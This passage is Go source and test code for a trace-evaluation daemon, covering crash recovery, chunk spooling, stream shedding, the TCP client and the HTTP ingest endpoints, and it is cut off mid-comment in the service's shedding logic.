	svc := shedService(t, dir, ffs)
	spoolTwoThenOverflow(t, svc) // the overflow path hits the crash
	svc.Close()
	if !ffs.Crashed() {
		t.Fatal("schedule did not reach the spool removal")
	}

	svc2 := shedService(t, dir, nil)
	defer svc2.Close()
	st, ok := svc2.Status("victim")
	if !ok || st.State != serve.StateShed {
		t.Fatalf("victim after recovery: ok=%v state=%+v, want shed", ok, st)
	}
	if st.Chunks != 2 {
		t.Fatalf("shed victim accounts %d chunks, want 2", st.Chunks)
	}
	if err := svc2.Counts().Check(); err != nil {
		t.Fatalf("ledger after recovery: %v", err)
	}
	vdir := filepath.Join(dir, "streams", "victim")
	for _, f := range []string{"trace.idt2", "acks.jsonl"} {
		if _, err := os.Stat(filepath.Join(vdir, f)); err == nil {
			t.Errorf("recovery left dead %s behind after interrupted shed", f)
		}
	}
}

// TestShedTombstoneFailureKeepsStreamResumable pins the other side of
// the discipline: if the tombstone cannot be written, the spool and
// ack journal must survive so the stream resumes intact. (The original
// bug removed them first — a crash or failure in between silently
// destroyed acked chunks and resumed the stream empty.)
func TestShedTombstoneFailureKeepsStreamResumable(t *testing.T) {
	dir := t.TempDir()
	ffs := faultfs.New(faultfs.Rule{Op: faultfs.OpCreate, Path: "shed.json", N: 1, Err: syscall.ENOSPC})
	svc := shedService(t, dir, ffs)
	spoolTwoThenOverflow(t, svc)
	svc.Close()
	if ffs.Injected() != 1 {
		t.Fatal("schedule never reached the tombstone write")
	}

	svc2 := shedService(t, dir, nil)
	defer svc2.Close()
	info, err := svc2.Hello(quickMeta("victim"))
	if err != nil {
		t.Fatal(err)
	}
	if info.State != serve.StateOpen || info.Next != 2 {
		t.Fatalf("victim after failed tombstone: state=%s next=%d, want open/2 (acked chunks lost)", info.State, info.Next)
	}
	if err := svc2.Counts().Check(); err != nil {
		t.Fatalf("ledger after recovery: %v", err)
	}
}

// TestSpoolTornTailTrimsAckJournal pins the recovery corner where the
// torn tail is in the spool, not the ack journal: the journal's last
// line claims bytes the spool no longer covers, so recovery must trim
// the journal to the covered prefix and resume without re-acking or
// double-delivering the lost chunk.
func TestSpoolTornTailTrimsAckJournal(t *testing.T) {
	dir := t.TempDir()
	payload := buildTraceBytes(t, 7)
	chunks := chunked(payload, (len(payload)+3)/4)

	svc := openService(t, dir, func(c *serve.Config) { c.EvalWorkers = -1 })
	if _, err := svc.Hello(quickMeta("torn")); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		if _, err := svc.Accept("torn", uint32(i), chunks[i]); err != nil {
			t.Fatal(err)
		}
	}
	svc.Close()

	// Tear the spool mid-third-chunk; the ack journal still has all
	// three lines.
	spool := filepath.Join(dir, "streams", "torn", "trace.idt2")
	fi, err := os.Stat(spool)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(spool, fi.Size()-int64(len(chunks[2])/2)); err != nil {
		t.Fatal(err)
	}

	svc2 := openService(t, dir, nil)
	defer svc2.Close()
	info, err := svc2.Hello(quickMeta("torn"))
	if err != nil {
		t.Fatal(err)
	}
	if info.Next != 2 {
		t.Fatalf("resume point after torn spool: next=%d, want 2 (chunk 2's bytes are gone)", info.Next)
	}
	// Resume: re-upload from the trimmed point; the finished stream
	// must evaluate cleanly, proving the spool was reassembled exactly.
	uploadAll(t, svc2, quickMeta("torn"), chunks)
	awaitDone(t, svc2, "torn")
	got, err := os.ReadFile(spool)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, payload) {
		t.Fatalf("reassembled spool differs from original (%d vs %d bytes)", len(got), len(payload))
	}
	if err := svc2.Counts().Check(); err != nil {
		t.Fatalf("ledger: %v", err)
	}
}

// TestFinishedButNeverJournaledRequeuesOnce pins the delivery corner:
// finish.json committed (delivery promised) but the daemon died before
// the evaluation wrote a single campaign journal line. Recovery must
// re-queue the stream and deliver exactly once.
func TestFinishedButNeverJournaledRequeuesOnce(t *testing.T) {
	dir := t.TempDir()
	payload := buildTraceBytes(t, 7)
	chunks := chunked(payload, (len(payload)+3)/4)

	// No eval workers: Finish commits finish.json and queues, then the
	// "daemon" dies before any evaluation work starts.
	svc := openService(t, dir, func(c *serve.Config) { c.EvalWorkers = -1 })
	uploadAll(t, svc, quickMeta("fin"), chunks)
	svc.Close()
	if _, err := os.Stat(filepath.Join(dir, "streams", "fin", "finish.json")); err != nil {
		t.Fatalf("finish.json not committed: %v", err)
	}
	if _, err := os.Stat(filepath.Join(dir, "streams", "fin", "campaign", "journal.jsonl")); err == nil {
		t.Fatal("test premise broken: evaluation journal already exists")
	}

	svc2 := openService(t, dir, nil)
	defer svc2.Close()
	awaitDone(t, svc2, "fin")
	counts := svc2.Counts()
	if err := counts.Check(); err != nil {
		t.Fatalf("ledger: %v", err)
	}
	if counts.Delivered != uint64(len(chunks)) {
		t.Fatalf("delivered=%d, want exactly %d (no double-delivery)", counts.Delivered, len(chunks))
	}
}

// TestRecoverySweepsStrayCommitTemps pins the stray-temp leak found by
// the matrix: a crash between CreateTemp and Commit strands the
// ".<name>.tmp-*" file, and before the fix no recovery path removed it.
func TestRecoverySweepsStrayCommitTemps(t *testing.T) {
	dir := t.TempDir()
	ffs := faultfs.New(faultfs.Rule{Op: faultfs.OpRename, Path: "finish.json", N: 1, Crash: true})
	svc := openService(t, dir, func(c *serve.Config) {
		c.EvalWorkers = -1
		c.FS = ffs
	})
	payload := buildTraceBytes(t, 7)
	chunks := chunked(payload, (len(payload)+3)/4)
	info, err := svc.Hello(quickMeta("stray"))
	if err != nil {
		t.Fatal(err)
	}
	for i := int(info.Next); i < len(chunks); i++ {
		if _, err := svc.Accept("stray", uint32(i), chunks[i]); err != nil {
			t.Fatal(err)
		}
	}
	if err := svc.Finish("stray", uint64(len(chunks)), int64(len(payload))); err == nil {
		t.Fatal("finish succeeded despite crash at its rename")
	}
	svc.Close()

	sdir := filepath.Join(dir, "streams", "stray")
	if !hasStrayTemp(t, sdir) {
		t.Fatal("test premise broken: crash left no stray temp file")
	}
	svc2 := openService(t, dir, func(c *serve.Config) { c.EvalWorkers = -1 })
	defer svc2.Close()
	if hasStrayTemp(t, sdir) {
		t.Fatal("recovery left the stray atomic-write temp file behind")
	}
	// And the interrupted upload is still resumable where it left off.
	info, err = svc2.Hello(quickMeta("stray"))
	if err != nil {
		t.Fatal(err)
	}
	if info.State != serve.StateOpen || info.Next != uint32(len(chunks)) {
		t.Fatalf("stream after recovery: state=%s next=%d, want open/%d", info.State, info.Next, len(chunks))
	}
}

func hasStrayTemp(t *testing.T, dir string) bool {
	t.Helper()
	ents, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range ents {
		if strings.Contains(e.Name(), ".tmp-") {
			return true
		}
	}
	return false
}
