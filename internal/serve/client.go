package serve

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"time"

	"repro/internal/trace"
)

// Client is the reference ISF2 client used by the tests, cmd/chaossmoke,
// and anyone streaming a trace to idsevald from Go. It is lock-step by
// design — one frame out, one reply in — which keeps resume trivial:
// Next always equals the count of chunks the server has durably acked.
type Client struct {
	conn net.Conn
	fr   *trace.FrameReader
	fw   *trace.FrameWriter
	name string

	// Timeout bounds each frame exchange (default 30s).
	Timeout time.Duration
	// Next is the next ordinal to send, as told by the server.
	Next uint32
	// State is the stream state from the Hello ack.
	State string
	// SentBytes accumulates payload bytes acked this session.
	SentBytes int64
}

// Dial connects to an idsevald TCP endpoint.
func Dial(addr string) (*Client, error) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("serve: dial %s: %w", addr, err)
	}
	return &Client{
		conn:    conn,
		fr:      trace.NewFrameReader(bufio.NewReaderSize(conn, 64<<10), 0),
		fw:      trace.NewFrameWriter(conn),
		Timeout: 30 * time.Second,
	}, nil
}

// Close closes the connection.
func (c *Client) Close() error { return c.conn.Close() }

func (c *Client) send(typ byte, ord uint32, payload []byte) error {
	c.conn.SetWriteDeadline(time.Now().Add(c.Timeout))
	return c.fw.Write(typ, ord, payload)
}

func (c *Client) sendJSON(typ byte, ord uint32, v any) error {
	b, err := json.Marshal(v)
	if err != nil {
		return err
	}
	return c.send(typ, ord, b)
}

func (c *Client) read() (trace.Frame, error) {
	c.conn.SetReadDeadline(time.Now().Add(c.Timeout))
	return c.fr.Next()
}

// reply reads one control frame and maps Reject/Error frames onto
// their Go error types.
func (c *Client) reply() (trace.Frame, error) {
	f, err := c.read()
	if err != nil {
		return f, err
	}
	switch f.Type {
	case trace.FrameReject:
		var ri rejectInfo
		if err := json.Unmarshal(f.Payload, &ri); err != nil {
			return f, fmt.Errorf("serve: malformed reject: %w", err)
		}
		return f, &RejectError{Reason: ri.Reason, RetryAfter: time.Duration(ri.RetryAfterMs) * time.Millisecond}
	case trace.FrameError:
		var ei errorInfo
		if err := json.Unmarshal(f.Payload, &ei); err != nil {
			return f, fmt.Errorf("serve: malformed error frame: %w", err)
		}
		return f, &ProtocolError{Msg: ei.Error, Next: ei.Next}
	}
	return f, nil
}

// Hello opens (or resumes) the stream. On return Next tells the caller
// where to resume and State whether the stream is still uploadable.
func (c *Client) Hello(meta StreamMeta) error {
	c.name = meta.Name
	if err := c.sendJSON(trace.FrameHello, 0, meta); err != nil {
		return err
	}
	f, err := c.reply()
	if err != nil {
		return err
	}
	if f.Type != trace.FrameAck {
		return fmt.Errorf("serve: hello: unexpected frame type %d", f.Type)
	}
	var ack helloAck
	if err := json.Unmarshal(f.Payload, &ack); err != nil {
		return fmt.Errorf("serve: malformed hello ack: %w", err)
	}
	c.Next, c.State = ack.Next, ack.State
	return nil
}

// SendChunk uploads one chunk at the current resume point. On success
// Next advances past the server's durable ack. A *RejectError means
// backpressure: nothing was accepted, retry after the hint.
func (c *Client) SendChunk(payload []byte) error {
	if err := c.send(trace.FrameData, c.Next, payload); err != nil {
		return err
	}
	f, err := c.reply()
	if err != nil {
		return err
	}
	if f.Type != trace.FrameAck {
		return fmt.Errorf("serve: chunk %d: unexpected frame type %d", c.Next, f.Type)
	}
	var ack ackInfo
	if err := json.Unmarshal(f.Payload, &ack); err != nil {
		return fmt.Errorf("serve: malformed chunk ack: %w", err)
	}
	c.Next = ack.Next
	c.SentBytes += int64(len(payload))
	return nil
}

// SendChunkRetry is SendChunk with bounded doubling-backoff retries on
// backpressure rejects. Non-reject errors surface immediately.
func (c *Client) SendChunkRetry(payload []byte, attempts int, backoff time.Duration) error {
	for attempt := 1; ; attempt++ {
		err := c.SendChunk(payload)
		var re *RejectError
		if err == nil || !errors.As(err, &re) || attempt >= attempts {
			return err
		}
		wait := backoff
		if re.RetryAfter > wait {
			wait = re.RetryAfter
		}
		time.Sleep(wait)
		backoff *= 2
	}
}

// Finish declares the upload complete with the exact totals the server
// must have acked. A *RejectError (queue full) leaves the stream open
// and durable — call Finish again after the hint.
func (c *Client) Finish(chunks uint64, bytes int64) error {
	if err := c.sendJSON(trace.FrameFinish, uint32(chunks), finishReq{Chunks: chunks, Bytes: bytes}); err != nil {
		return err
	}
	f, err := c.reply()
	if err != nil {
		return err
	}
	if f.Type != trace.FrameAck {
		return fmt.Errorf("serve: finish: unexpected frame type %d", f.Type)
	}
	return nil
}

// FinishRetry is Finish with bounded doubling-backoff retries on
// backpressure rejects.
func (c *Client) FinishRetry(chunks uint64, bytes int64, attempts int, backoff time.Duration) error {
	for attempt := 1; ; attempt++ {
		err := c.Finish(chunks, bytes)
		var re *RejectError
		if err == nil || !errors.As(err, &re) || attempt >= attempts {
			return err
		}
		wait := backoff
		if re.RetryAfter > wait {
			wait = re.RetryAfter
		}
		time.Sleep(wait)
		backoff *= 2
	}
}

// Await consumes the result feed until it terminates, invoking onEvent
// (when non-nil) for each incremental event, and returns the final
// scorecard. Evaluation can far outlast one frame timeout, so waitFor
// bounds the whole feed instead; it must comfortably exceed the
// expected evaluation time.
func (c *Client) Await(waitFor time.Duration, onEvent func(kind EventKind, payload []byte)) ([]byte, error) {
	deadline := time.Now().Add(waitFor)
	var card []byte
	for {
		if time.Now().After(deadline) {
			return nil, fmt.Errorf("serve: no terminal frame within %v", waitFor)
		}
		c.conn.SetReadDeadline(deadline)
		f, err := c.fr.Next()
		if err != nil {
			return nil, err
		}
		switch f.Type {
		case trace.FrameResult:
			if onEvent != nil {
				onEvent(EventResult, f.Payload)
			}
		case trace.FrameScorecard:
			card = append([]byte(nil), f.Payload...)
			if onEvent != nil {
				onEvent(EventScorecard, f.Payload)
			}
		case trace.FrameComplete:
			if card == nil {
				return nil, fmt.Errorf("serve: complete without scorecard")
			}
			return card, nil
		case trace.FrameError:
			var ei errorInfo
			if err := json.Unmarshal(f.Payload, &ei); err != nil {
				return nil, fmt.Errorf("serve: malformed error frame: %w", err)
			}
			return nil, fmt.Errorf("serve: evaluation feed: %s", ei.Error)
		default:
			return nil, fmt.Errorf("serve: unexpected frame type %d in result feed", f.Type)
		}
	}
}
