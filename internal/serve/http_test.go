package serve_test

import (
	"bytes"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"repro/internal/obs"
	"repro/internal/obs/httpexport"
	"repro/internal/serve"
)

// TestHTTPIngestAndObservabilityPlane drives the daemon's whole HTTP
// surface: a POST upload that waits for the scorecard, status and
// scorecard GETs, and the observability fall-through (/healthz wired to
// Service.Health, /metrics showing the serve.* family).
func TestHTTPIngestAndObservabilityPlane(t *testing.T) {
	data := buildTraceBytes(t, 31)
	reg := obs.NewRegistry()
	svc := openService(t, t.TempDir(), func(c *serve.Config) {
		c.Obs = reg
	})
	defer svc.Close()

	obsHandler, err := httpexport.NewHandler(httpexport.Config{
		Snapshot: svc.Snapshot,
		Progress: svc.Progress,
		Health:   svc.Health,
	})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(svc.HTTPHandler(obsHandler))
	defer srv.Close()
	client := &http.Client{Timeout: 3 * time.Minute}

	resp, err := client.Post(
		srv.URL+"/v1/streams/http1?quick=1&seed=7&products=TrueSecure&sensitivity=0.6",
		"application/octet-stream", bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	card, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("POST = %d: %s", resp.StatusCode, card)
	}
	if !bytes.Contains(card, []byte("TrueSecure")) {
		t.Fatalf("POST response is not a scorecard:\n%s", card)
	}

	get := func(path string) (int, string) {
		t.Helper()
		resp, err := client.Get(srv.URL + path)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		body, _ := io.ReadAll(resp.Body)
		return resp.StatusCode, string(body)
	}

	if code, body := get("/v1/streams/http1"); code != 200 || !strings.Contains(body, `"state": "done"`) {
		t.Fatalf("status GET = %d %s", code, body)
	}
	if code, body := get("/v1/streams/http1/scorecard"); code != 200 || body != string(card) {
		t.Fatalf("scorecard GET = %d, differs from POST response", code)
	}
	if code, body := get("/v1/streams"); code != 200 || !strings.Contains(body, "http1") {
		t.Fatalf("list GET = %d %s", code, body)
	}
	if code, body := get("/healthz"); code != 200 || body != "ok\n" {
		t.Fatalf("/healthz = %d %q", code, body)
	}
	if code, body := get("/metrics"); code != 200 || !strings.Contains(body, "serve_chunks_delivered") {
		t.Fatalf("/metrics = %d, missing serve_ family:\n%s", code, body)
	}
	if code, body := get("/progress"); code != 200 || !strings.Contains(body, `"streams"`) {
		t.Fatalf("/progress = %d %s", code, body)
	}
	if code, _ := get("/v1/streams/missing"); code != http.StatusNotFound {
		t.Fatalf("unknown stream GET = %d, want 404", code)
	}
}

// TestHTTPResumeSkipsAckedBytesNotChunkMultiples pins the resume
// offset to the acked *byte* count. The acked prefix of a body can end
// in a short chunk — every fully-uploaded body does, since io.ReadFull
// stops at EOF — so skipping Next×1MiB would overshoot the retried
// body and wedge the upload on 400 forever (the advertised retry path
// after a 429'd Finish).
func TestHTTPResumeSkipsAckedBytesNotChunkMultiples(t *testing.T) {
	data := buildTraceBytes(t, 31)
	svc := openService(t, t.TempDir(), nil)
	defer svc.Close()
	srv := httptest.NewServer(svc.HTTPHandler(nil))
	defer srv.Close()
	client := &http.Client{Timeout: 3 * time.Minute}

	// partial: a prior POST acked a short prefix before the connection
	// died. whole: the entire body was acked as one short chunk but
	// Finish was rejected (queue full) — the client retries the POST.
	preAck := map[string][]byte{
		"partial": data[:len(data)/3],
		"whole":   data,
	}
	for name, prefix := range preAck {
		if _, err := svc.Hello(quickMeta(name)); err != nil {
			t.Fatal(err)
		}
		if _, err := svc.Accept(name, 0, prefix); err != nil {
			t.Fatal(err)
		}
	}

	cards := map[string]string{}
	for name := range preAck {
		resp, err := client.Post(
			srv.URL+"/v1/streams/"+name+"?quick=1&seed=7&products=TrueSecure&sensitivity=0.6",
			"application/octet-stream", bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("retried POST %s = %d: %s", name, resp.StatusCode, body)
		}
		cards[name] = string(body)

		status, ok := svc.Status(name)
		if !ok {
			t.Fatalf("stream %s vanished", name)
		}
		if status.Bytes != int64(len(data)) {
			t.Fatalf("stream %s holds %d bytes after resume, want %d", name, status.Bytes, len(data))
		}
	}
	// Same trace, same evaluation shape — resuming mid-body and
	// resuming past a fully-acked body must yield the same results
	// (the header line carries the stream name; skip it).
	body := func(card string) string { _, rest, _ := strings.Cut(card, "\n"); return rest }
	if body(cards["partial"]) != body(cards["whole"]) {
		t.Fatalf("resumed scorecards differ:\n--- partial ---\n%s\n--- whole ---\n%s",
			cards["partial"], cards["whole"])
	}
	if err := svc.Counts().Check(); err != nil {
		t.Fatal(err)
	}
}

// TestHTTPRejectCarriesRetryAfter pins the backpressure contract on
// the HTTP surface: 429 plus a whole-second Retry-After header.
func TestHTTPRejectCarriesRetryAfter(t *testing.T) {
	svc := openService(t, t.TempDir(), func(c *serve.Config) {
		c.MaxStreams = 1
		c.RetryAfter = 1500 * time.Millisecond
	})
	defer svc.Close()
	if _, err := svc.Hello(serve.StreamMeta{Name: "holder", Evals: true}); err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(svc.HTTPHandler(nil))
	defer srv.Close()

	resp, err := http.Post(srv.URL+"/v1/streams/second?evals=1", "application/octet-stream",
		bytes.NewReader(nil))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("status = %d, want 429", resp.StatusCode)
	}
	if ra := resp.Header.Get("Retry-After"); ra != "2" {
		t.Fatalf("Retry-After = %q, want \"2\" (1.5s rounded up)", ra)
	}
}
