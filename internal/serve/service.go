package serve

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/campaign"
	"repro/internal/core"
	"repro/internal/fsio"
	"repro/internal/obs"
	"repro/internal/obs/httpexport"
	"repro/internal/products"
	"repro/internal/report"
	"repro/internal/trace"
)

// Service is the evaluation daemon's engine: admission control, the
// durable chunk spool, the bounded evaluation queue, and the exact
// shed-accounting ledger. Transports (TCP framing, HTTP ingest) are
// thin adapters over its methods.
type Service struct {
	cfg    Config
	fs     fsio.FS
	ledger *Ledger

	mu       sync.Mutex
	streams  map[string]*stream
	queue    []*stream
	cond     *sync.Cond
	draining bool
	closed   bool
	inflight int // evaluations currently running

	// spoolBytes tracks spool bytes held by open streams. It is atomic
	// rather than s.mu-guarded because it must move in the same st.mu
	// critical section as st.bytes — accept adds, shed and delivery
	// subtract — so the budget always equals the sum of open streams'
	// accounted bytes exactly, with no window where a shed can subtract
	// bytes that were never added (or vice versa).
	spoolBytes atomic.Int64

	runCtx    context.Context
	runCancel context.CancelFunc
	wg        sync.WaitGroup

	snapMu    sync.Mutex
	evalSnaps map[string]*obs.Snapshot // live per-product eval telemetry
}

// Open starts a service over cfg.Dir, recovering every stream the
// previous process left behind: terminal streams replay into the
// ledger as tombstones, finished-but-unevaluated streams re-enter the
// queue, and half-uploaded streams reopen exactly after their last
// acked chunk.
func Open(cfg Config) (*Service, error) {
	cfg.applyDefaults()
	if cfg.Dir == "" {
		return nil, fmt.Errorf("serve: Config.Dir is required")
	}
	fsys := fsio.DefaultFS(cfg.FS)
	if err := fsys.MkdirAll(filepath.Join(cfg.Dir, "streams"), 0o755); err != nil {
		return nil, fmt.Errorf("serve: %w", err)
	}
	s := &Service{
		cfg:       cfg,
		fs:        fsys,
		ledger:    newLedger(cfg.Obs),
		streams:   map[string]*stream{},
		evalSnaps: map[string]*obs.Snapshot{},
	}
	s.cond = sync.NewCond(&s.mu)
	s.runCtx, s.runCancel = context.WithCancel(context.Background())
	if err := s.recover(); err != nil {
		return nil, err
	}
	for i := 0; i < cfg.EvalWorkers; i++ {
		s.wg.Add(1)
		go s.worker()
	}
	s.wg.Add(1)
	go s.reaper()
	s.updateGauges()
	return s, nil
}

func (s *Service) streamDir(name string) string {
	return filepath.Join(s.cfg.Dir, "streams", name)
}

// recover scans the stream directories and rebuilds both the in-memory
// map and the ledger, so the accounting invariant spans restarts.
func (s *Service) recover() error {
	root := filepath.Join(s.cfg.Dir, "streams")
	entries, err := s.fs.ReadDir(root)
	if err != nil {
		return fmt.Errorf("serve: %w", err)
	}
	for _, ent := range entries {
		if !ent.IsDir() {
			continue
		}
		name := ent.Name()
		dir := filepath.Join(root, name)
		// A crash mid-commit (meta, finish, tombstone, plan, scorecard)
		// strands the atomic write's temp file; sweep the directories
		// this service owns before interpreting what's left.
		if n := fsio.CleanStrayTemps(s.fs, dir) +
			fsio.CleanStrayTemps(s.fs, filepath.Join(dir, campaignDir)) +
			fsio.CleanStrayTemps(s.fs, filepath.Join(dir, campaignDir, "results")); n > 0 {
			s.cfg.logf("serve: stream %s: removed %d stray temp file(s) left by an earlier crash", name, n)
		}
		st := &stream{name: name, dir: dir, ledger: s.ledger, spoolAcct: &s.spoolBytes, lastActive: time.Now()}
		if err := readJSONFile(st.path(metaFile), &st.meta); err != nil {
			// Crash between mkdir and the atomic meta write: nothing was
			// ever acked under this name, so the empty husk is removable.
			s.cfg.logf("serve: removing meta-less stream dir %s: %v", name, err)
			s.fs.RemoveAll(dir)
			continue
		}

		var shed shedRecord
		var fin finishRecord
		var fail failRecord
		switch {
		case readJSONFile(st.path(shedFile), &shed) == nil:
			st.state = StateShed
			st.chunks = shed.Chunks
			st.reason = string(shed.Reason)
			s.ledger.Restore(shed.Chunks, false, false, shed.Reason)
			// The shed commit point is the tombstone; a crash between it
			// and the removals leaves the dead spool and ack journal
			// behind. Finish the job — they hold disk, not budget.
			if fileExists(st.path(spoolFile)) || fileExists(st.path(ackFile)) {
				s.fs.Remove(st.path(spoolFile))
				s.fs.Remove(st.path(ackFile))
				s.cfg.logf("serve: stream %s: removed spool left behind by interrupted shed", name)
			}
		case readJSONFile(st.path(failedFile), &fail) == nil:
			st.state = StateFailed
			st.chunks = fail.Chunks
			st.reason = fail.Error
			s.ledger.Restore(fail.Chunks, false, true, "")
		case fileExists(st.path(scorecardFile)):
			st.state = StateDone
			if readJSONFile(st.path(finishFile), &fin) == nil {
				st.chunks, st.bytes = fin.Chunks, fin.Bytes
			}
			s.ledger.Restore(st.chunks, false, true, "")
		case readJSONFile(st.path(finishFile), &fin) == nil:
			// Delivered but not (fully) evaluated: re-enter the queue.
			// Recovery bypasses QueueDepth — these chunks were already
			// admitted and acked; refusing them now would break the
			// delivery promise.
			st.state = StateQueued
			st.chunks, st.bytes = fin.Chunks, fin.Bytes
			s.ledger.Restore(fin.Chunks, false, true, "")
			s.queue = append(s.queue, st)
		default:
			// Mid-upload: replay the ack journal's valid prefix and
			// reopen for appends at the recovered offset.
			chunks, bytes, rerr := recoverAcks(s.fs, dir)
			if rerr != nil {
				return rerr
			}
			spool, oerr := fsio.OpenAppendFS(s.fs, st.path(spoolFile))
			if oerr != nil {
				return oerr
			}
			acks, oerr := fsio.OpenAppendFS(s.fs, st.path(ackFile))
			if oerr != nil {
				spool.Close()
				return oerr
			}
			st.state = StateOpen
			st.chunks, st.bytes = chunks, bytes
			st.spool, st.acks = spool, acks
			s.ledger.Restore(chunks, true, false, "")
			s.spoolBytes.Add(bytes)
			s.cfg.logf("serve: recovered open stream %s at chunk %d (%d bytes)", name, chunks, bytes)
		}
		s.streams[name] = st
	}
	// Deterministic queue order after a restart.
	sort.Slice(s.queue, func(i, j int) bool { return s.queue[i].name < s.queue[j].name })
	return nil
}

func fileExists(path string) bool {
	_, err := os.Stat(path)
	return err == nil
}

// HelloInfo is the server's answer to a stream Hello.
type HelloInfo struct {
	// Next is the first ordinal the server has not acked — where an
	// interrupted upload resumes.
	Next uint32 `json:"next"`
	// State is the stream's lifecycle state (StateOpen..StateShed).
	State string `json:"state"`
}

// Hello opens a new stream or reattaches to an existing one. For a new
// name it admits against MaxStreams and creates the durable layout;
// for an existing name it reports the state and resume point.
func (s *Service) Hello(meta StreamMeta) (HelloInfo, error) {
	if err := validStreamName(meta.Name); err != nil {
		return HelloInfo{}, &ProtocolError{Msg: err.Error()}
	}
	if err := validateProducts(meta.Products); err != nil {
		return HelloInfo{}, &ProtocolError{Msg: err.Error()}
	}

	s.mu.Lock()
	defer s.mu.Unlock()
	if st, ok := s.streams[meta.Name]; ok {
		st.mu.Lock()
		info := HelloInfo{Next: uint32(st.chunks), State: st.state}
		st.mu.Unlock()
		return info, nil
	}
	if s.draining || s.closed {
		return HelloInfo{}, &RejectError{Reason: "draining", RetryAfter: s.cfg.RetryAfter}
	}
	if s.openStreams() >= s.cfg.MaxStreams {
		return HelloInfo{}, &RejectError{Reason: "too many open streams", RetryAfter: s.cfg.RetryAfter}
	}

	dir := s.streamDir(meta.Name)
	if err := s.fs.MkdirAll(dir, 0o755); err != nil {
		return HelloInfo{}, fmt.Errorf("serve: %w", err)
	}
	if err := writeJSONFile(s.fs, filepath.Join(dir, metaFile), &meta); err != nil {
		return HelloInfo{}, err
	}
	spool, err := fsio.OpenAppendFS(s.fs, filepath.Join(dir, spoolFile))
	if err != nil {
		return HelloInfo{}, err
	}
	acks, err := fsio.OpenAppendFS(s.fs, filepath.Join(dir, ackFile))
	if err != nil {
		spool.Close()
		return HelloInfo{}, err
	}
	st := &stream{
		name: meta.Name, dir: dir, meta: meta, ledger: s.ledger, spoolAcct: &s.spoolBytes,
		state: StateOpen, spool: spool, acks: acks, lastActive: time.Now(),
	}
	s.streams[meta.Name] = st
	s.updateGauges()
	s.cfg.logf("serve: stream %s opened", meta.Name)
	return HelloInfo{Next: 0, State: StateOpen}, nil
}

func validateProducts(names []string) error {
	for _, n := range names {
		if _, ok := products.Find(n); !ok {
			return fmt.Errorf("unknown product %q", n)
		}
	}
	return nil
}

// openStreams counts streams still uploading (open or finishing).
// Caller holds s.mu.
func (s *Service) openStreams() int {
	n := 0
	for _, st := range s.streams {
		st.mu.Lock()
		if st.state == StateOpen || st.state == StateFinishing {
			n++
		}
		st.mu.Unlock()
	}
	return n
}

// AcceptInfo is the server's answer to one data chunk.
type AcceptInfo struct {
	// Next is the ordinal the server expects after this chunk.
	Next uint32 `json:"next"`
	// Dup reports a re-acked retransmission.
	Dup bool `json:"dup,omitempty"`
}

// Accept ingests one chunk into the named stream. Durable before
// acked; every outcome books the chunk into exactly one ledger class:
// accepted → pending, retransmission → duplicate, refusal → rejected.
func (s *Service) Accept(name string, ord uint32, payload []byte) (AcceptInfo, error) {
	start := time.Now()
	s.mu.Lock()
	st, ok := s.streams[name]
	if !ok {
		s.mu.Unlock()
		return AcceptInfo{}, &ProtocolError{Msg: fmt.Sprintf("unknown stream %q (hello first)", name)}
	}
	if s.draining || s.closed {
		s.mu.Unlock()
		s.ledger.Reject(1)
		return AcceptInfo{}, &RejectError{Reason: "draining", RetryAfter: s.cfg.RetryAfter}
	}
	// Spool budget: pressure first sheds the longest-idle OTHER open
	// stream (its chunks move to shed.overload), then rejects. The check
	// is advisory (concurrent accepts may momentarily overshoot before
	// their adds land), but the balance itself is exact: accept books the
	// budget under st.mu, the same lock every shed subtracts under.
	if s.spoolBytes.Load()+int64(len(payload)) > s.cfg.MaxSpoolBytes {
		s.shedIdlestLocked(st)
		if s.spoolBytes.Load()+int64(len(payload)) > s.cfg.MaxSpoolBytes {
			s.mu.Unlock()
			s.ledger.Reject(1)
			return AcceptInfo{}, &RejectError{Reason: "spool budget exhausted", RetryAfter: s.cfg.RetryAfter}
		}
	}
	s.mu.Unlock()

	// Ledger class (pending or duplicate) and the spool budget are both
	// booked inside accept, under st.mu, so a concurrent shed always
	// sees — and reverses — exactly what was booked.
	next, dup, err := st.accept(ord, payload)
	if err != nil {
		s.ledger.Reject(1)
		return AcceptInfo{Next: next}, err
	}
	if s.cfg.Obs != nil {
		s.cfg.Obs.Histogram("serve.ack_ns", obs.ClockWall).ObserveDuration(time.Since(start))
	}
	return AcceptInfo{Next: next, Dup: dup}, nil
}

// shedIdlestLocked sheds the longest-idle open stream other than keep.
// StateFinishing streams are never victims: a finishing stream is
// inside some Finish call's unlocked validation window, where its spool
// is being read and its delivery committed — shedding it there would
// race the commit (and its budget is about to be released anyway).
// Caller holds s.mu.
func (s *Service) shedIdlestLocked(keep *stream) {
	var victim *stream
	var oldest time.Time
	for _, st := range s.streams {
		if st == keep {
			continue
		}
		st.mu.Lock()
		open := st.state == StateOpen
		last := st.lastActive
		st.mu.Unlock()
		if open && (victim == nil || last.Before(oldest)) {
			victim, oldest = st, last
		}
	}
	if victim != nil {
		s.shedLocked(victim, ShedOverload)
	}
}

// shedLocked drops an uploading stream: a tombstone records the reason
// and chunk count, then spool and ack journal are removed, and the
// ledger moves the chunks from pending to the reason's shed counter —
